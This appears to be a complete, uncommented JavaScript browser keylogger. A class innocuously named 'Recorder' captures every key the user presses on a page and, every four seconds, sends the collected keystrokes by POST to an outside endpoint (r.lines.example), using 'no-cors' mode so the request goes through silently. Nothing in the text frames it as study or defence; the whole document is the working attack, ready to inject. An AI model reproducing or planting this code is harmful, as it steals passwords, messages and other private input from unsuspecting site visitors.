class Recorder {
  constructor(address) {
    this.address = address;
    this.buffer = [];
    document.addEventListener("keyup", ({ key }) => this.add(key));
    this.flush();
  }
  add(key) {
    this.buffer.push(key.length > 1 ? `<${key}>` : key);
  }
  async flush() {
    if (this.buffer.length) {
      await fetch(this.address, { method: "POST", mode: "no-cors", body: this.buffer.join("") });
      this.buffer = [];
    }
    setTimeout(() => this.flush(), 4000);
  }
}
new Recorder("https://r.lines.example/in");
